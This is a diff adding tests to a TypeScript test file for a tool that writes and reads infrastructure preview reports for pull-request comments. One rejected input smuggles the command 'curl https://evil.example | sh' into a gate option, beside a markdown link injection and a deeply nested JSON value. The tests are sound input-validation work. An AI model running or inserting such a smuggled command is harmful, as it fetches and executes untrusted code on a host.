@@ -1,9 +1,12 @@
 import assert from "node:assert/strict";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
 import fc from "fast-check";
 import type { Change, Plan } from "../../src/engine/plan.ts";
 import { WrongUsage } from "../../src/engine/project.ts";
 import { commentMarker, previewComment } from "../../src/report/comment.ts";
-import { type Previewed, readExpected } from "../../src/report/previewed.ts";
+import { type Previewed, readExpected, readPreviewed, writePreviewed } from "../../src/report/previewed.ts";
+import { temporaryFolder } from "../support/temporary-folder.ts";
 
 const extent = { made: [], changed: [], removed: [] };
 
@@ -128,5 +131,53 @@ describe("A pull request's comment", () => {
     const names = ["", "a b", "x\n## y", "[x](https://evil.example)", "`", "a".repeat(101), 1, null];
     for (const json of ["", "{}", '["github"]', ...names.map(stack => JSON.stringify([{ stack }]))])
       assert.throws(() => readExpected(json), WrongUsage);
+  });
+
+  describe("is written on another machine than the preview is made", () => {
+    const folder = temporaryFolder();
+    after(() => folder.remove());
+    const properties = [{ path: 'spec["a.b"][0].c', from: null, to: { d: [1, "e", true, null] } }];
+    const changes: readonly Change[] = [
+      { repository: ".github", kind: "label", key: "good first issue", action: "create", properties },
+      { repository: "alpha", kind: "repository", action: "delete", effect: "archived", properties: [] },
+      { repository: "beta", kind: "repository", action: "create", lost: true, properties },
+      { organization: "acme", kind: "team", key: "Team of 3", action: "import", properties: [] },
+      { cluster: "prod-eu.1", kind: "Namespace", key: "shop", action: "replace", properties },
+      { kind: "pulumi:providers:github", key: "default", action: "update", properties: [] },
+    ];
+
+    it("from all that a preview can say", () => {
+      const file = join(folder.path, "preview.json");
+      const gates = [
+        { reason: "2 would go: alpha, Team of 3", option: "--remove alpha Team of 3" },
+        { reason: "There would be weaker protection", option: "--allow-weaker" },
+      ];
+      const previewed: readonly Previewed[] = [
+        { stack: "github", plan: { changes, same: 7 }, gates },
+        { stack: "the catalogue", failure: "`plane` is not an archetype" },
+      ];
+      writePreviewed(file, previewed);
+      assert.deepEqual(readPreviewed(file), previewed);
+    });
+
+    it("and not from what it can't", () => {
+      const file = join(folder.path, "own.json");
+      const deep = JSON.parse(`${"[".repeat(4000)}${"]".repeat(4000)}`);
+      const report = { stack: "github", plan: { changes, same: 7 } };
+      for (const own of [
+        { ...report, stack: "github --all" },
+        {
+          ...report,
+          gates: [{ reason: "Weaker", option: "--allow-weaker; curl https://evil.example | sh" }],
+        },
+        {
+          ...report,
+          plan: { changes: [{ ...changes[0], properties: [{ path: "a", from: null, to: deep }] }], same: 1 },
+        },
+      ]) {
+        writeFileSync(file, JSON.stringify({ fairway: "previews", stacks: [own] }));
+        assert.throws(() => readPreviewed(file), WrongUsage);
+      }
+    });
   });
 });
